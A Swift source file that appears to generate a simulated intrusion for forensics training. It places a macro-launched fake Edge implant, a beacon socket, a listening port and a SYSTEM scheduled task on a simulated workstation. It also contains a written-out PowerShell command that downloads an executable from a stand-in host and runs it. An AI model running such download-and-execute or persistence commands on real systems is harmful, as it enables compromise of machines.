// SPDX-License-Identifier: Apache-2.0

/// What the intruder left behind, in the order in which it happened.
///
/// A clerk opens a delivery note from a mail (ws-finance-07); its macro starts PowerShell, which fetches a program that
/// calls itself an Edge service. It asks 198.51.100.23 for orders, listens on port 8531 and survives through a task.
/// With a backup account's password it goes on to the file server (srv-files-01), packs the finance share there, and
/// from there to the build host (build-01), where a key and a cron job wait for the next visit.
enum Intrusion {
    static let controller = "198.51.100.23"
    static let controllerName = "cdn-telemetry.example.net"
    static let implant = #"C:\ProgramData\EdgeTelemetry\edgeupdsvc.exe"#
    /// One file, wherever it lies: one hash has one size.
    static let implantSize = 1_873_408

    /// The macro, the beacon and its scheduled task on the clerk's workstation.
    static func reachWorkstation(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let opened = now.before(.hours(26))
        let user = #"CORP\m.okafor"#
        let office = #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#
        let note =
            #"C:\Users\m.okafor\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2T9QX4B\Delivery_Note_4471.docm"#
        machine.processes += [
            Machine.Process(
                pid: 6120,
                parent: 5584,
                name: "WINWORD.EXE",
                path: office,
                commandLine: "\"\(office)\" /n \"\(note)\"",
                user: user,
                started: opened,
                signer: "Microsoft Corporation",
                memory: 141_000_000
            ),
            Machine.Process(
                pid: 6388,
                parent: 6120,
                name: "edgeupdsvc.exe",
                path: implant,
                commandLine: implant + " --channel stable --resume",
                user: user,
                started: opened.after(.seconds(37)),
                elevated: true,
                memory: 23_400_000
            ),
        ]
        machine.sockets += [
            socket(6388, "ESTAB", endpoint.address, 50944, controller, 443, opened.after(.seconds(39))),
            socket(6388, "LISTEN", "0.0.0.0", 8531, "0.0.0.0", 0, opened.after(.seconds(40))),
        ]
        addTask(&machine, opened: opened)
        leaveTraces(&machine, opened: opened)
    }

    private static func addTask(_ machine: inout Machine, opened: Instant) {
        machine.tasks.append(
            Machine.ScheduledTask(
                path: #"C:\Windows\System32\Tasks\EdgeTelemetryRefresh"#,
                command: implant,
                arguments: "--channel stable --resume",
                user: "S-1-5-18",
                runLevel: "HighestAvailable",
                registered: opened.after(.minutes(2)),
                interval: "PT15M"
            )
        )
    }

    private static func leaveTraces(_ machine: inout Machine, opened: Instant) {
        machine.resolvedNames.append(.init(name: controllerName, record: controller, timeToLive: 60))
        machine.scriptBlocks.append(
            Machine.ScriptBlock(
                at: opened.after(.seconds(12)),
                text:
                    "$w = New-Object Net.WebClient; $w.DownloadFile('https://\(controllerName)/e/4471', '\(implant)');"
                    + " Start-Process '\(implant)' '--channel stable --resume'"
            )
        )
        machine.executions += [
            Machine.Execution(
                path: #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
                size: 452_000,
                runs: [opened.after(.seconds(11))]
            ),
            Machine.Execution(path: implant, size: implantSize, runs: [opened.after(.seconds(37))]),
        ]
    }

    static func socket(
        _ pid: Int,
        _ status: String,
        _ local: String,
        _ localPort: Int,
        _ remote: String,
        _ remotePort: Int,
        _ opened: Instant
    ) -> Machine.Socket {
        Machine.Socket(
            pid: pid,
            status: status,
            local: local,
            localPort: localPort,
            remote: remote,
            remotePort: remotePort,
            opened: opened
        )
    }
}
